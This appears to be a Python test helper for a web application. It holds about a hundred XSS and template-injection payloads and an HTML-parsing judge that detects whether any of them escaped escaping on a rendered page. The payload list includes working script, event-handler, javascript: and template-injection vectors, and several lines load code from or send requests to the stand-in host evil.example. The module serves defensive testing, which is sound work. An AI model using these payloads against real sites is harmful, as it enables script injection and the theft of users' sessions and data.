"""A hundred ways to make a page run somebody else's program, and a judge that sees whether one of them has worked.

Each payload names ``pwn`` in whatever it would make: a tag, an attribute, a script or an address. On a page that has
escaped it, ``pwn`` stands in text and in the values of attributes that hold text, and nowhere else.
"""

import re
from html.parser import HTMLParser

MARK = "pwn"
#: What must be left before a payload means anything: nothing, an attribute, an element of text, a comment.
_OUT_OF = ("", '">', "'>", "</textarea>", "</title>", "</option></select>", "-->", "</script>")
_BODIES = (
    "<script>pwn()</script>",
    "<script src=//evil.example/pwn.js></script>",
    "<img src=x onerror=pwn()>",
    "<svg onload=pwn()>",
    "<svg><script>pwn()</script></svg>",
    "<iframe srcdoc='<script>parent.pwn()</script>'></iframe>",
    "<details open ontoggle=pwn()>",
    "<a href=javascript:pwn()>x</a>",
    "<form action=//evil.example/pwn><button>x</button></form>",
)
_OTHERS = (
    '" onfocus=pwn() autofocus="', "' onfocus=pwn() autofocus='", " onmouseover=pwn() ", "` onerror=pwn() `",
    '" style="background:url(//evil.example/pwn)', "javascript:pwn()", "JaVaScRiPt:pwn()", "java\tscript:pwn()",
    " javascript:pwn()", "data:text/html,<script>pwn()</script>", "vbscript:pwn()", "//evil.example/pwn",
    "<base href=//evil.example/pwn>", "<meta http-equiv=refresh content='0;url=//evil.example/pwn'>",
    "<link rel=stylesheet href=//evil.example/pwn.css>", "<style>@import'//evil.example/pwn'</style>",
    "<object data=//evil.example/pwn>", "<embed src=//evil.example/pwn>", "<math><mi xlink:href=javascript:pwn()>",
    "<body onload=pwn()>", "<video><source onerror=pwn()></video>", "<input autofocus onfocus=pwn()>",
    "<x-pwn contenteditable onbeforeinput=pwn()>", "<button formaction=javascript:pwn()>", "<template pwn><p>",
    "<noscript><p title='</noscript><img src=x onerror=pwn()>'>", "<!--><img src=x onerror=pwn()>-->",
    "<div hx-get=//evil.example/pwn hx-trigger=load></div>", '" hx-on:click="pwn()',
    "<svg><use href=//evil.example/#pwn>",
    "<plaintext pwn>", "<p pwn", "{{ pwn }}{{ 7*7 }}", "{% include 'pwn' %}", "${pwn}", "#{pwn}", "<%= pwn %>",
    "%(pwn)s",
)  # fmt: skip
PAYLOADS = tuple(out + body for out in _OUT_OF for body in _BODIES) + _OTHERS
#: All of them behind each other.
ALL = "".join(PAYLOADS)

#: Attributes that hold words; in every other one the mark is an attack that has worked.
_WORDS = frozenset(
    ("value", "title", "content", "alt", "placeholder", "aria-label", "aria-description", "label", "data-copy",
     "data-confirm", "download", "data-text", "data-filter", "datetime", "data-value", "data-what", "data-original")
)  # fmt: skip
_ADDRESSES = frozenset(
    ("href", "src", "action", "formaction", "hx-get", "hx-post", "hx-push-url", "hx-replace-url", "data-href")
)
#: Ours lead to ourselves (whole in mails, and what is signed there may look like anything) or to a mail program; a
#: scheme is never taken from text, except where webhooks go (as text).
_HARMLESS = re.compile(r"(?:(?:http://localhost)?/(?![/\\])|\?|#|mailto:)[^\s\"'<>]*")
#: What no page of ours contains, whoever wrote it.
_NEVER = frozenset(("iframe", "object", "embed", "base", "math", "style", "plaintext", "frame", "applet", "portal"))


class _Judge(HTMLParser):
    """Reads a page as a browser does, and writes down what text should never have become."""

    def __init__(self) -> None:
        super().__init__(convert_charrefs=True)
        self.wrong: list[str] = []
        self._in_script = False

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        if tag in _NEVER or MARK in tag:
            self.wrong.append(f"<{tag}>")
        for name, value in attrs:
            self._attribute(tag, name, value or "")
        self._in_script = tag == "script"
        if tag == "script" and not dict(attrs).get("src", "").startswith("/static/"):
            self.wrong.append("a script of somebody else's")

    def _attribute(self, tag: str, name: str, value: str) -> None:
        plain = re.sub(r"[\x00-\x20]", "", value).lower()
        if MARK in name or name.startswith(("on", "hx-on")) or name in ("style", "srcdoc"):
            self.wrong.append(f"<{tag} {name}>")
        if name in _WORDS:
            return
        leads_to_ourselves = name in _ADDRESSES and _HARMLESS.fullmatch(value)
        if plain.startswith(("javascript:", "vbscript:", "data:text")) or (MARK in value and not leads_to_ourselves):
            self.wrong.append(f"<{tag} {name}={value[:60]!r}>")

    def handle_endtag(self, tag: str) -> None:
        self._in_script = False

    def handle_data(self, data: str) -> None:
        if self._in_script and data.strip():
            self.wrong.append(f"a script: {data[:60]!r}")

    def handle_comment(self, data: str) -> None:
        if MARK in data:
            self.wrong.append(f"a comment: {data[:60]!r}")


def judge(html: str) -> list[str]:
    """What became more than text on this page; empty where nothing did."""
    reader = _Judge()
    reader.feed(html)
    reader.close()
    return reader.wrong
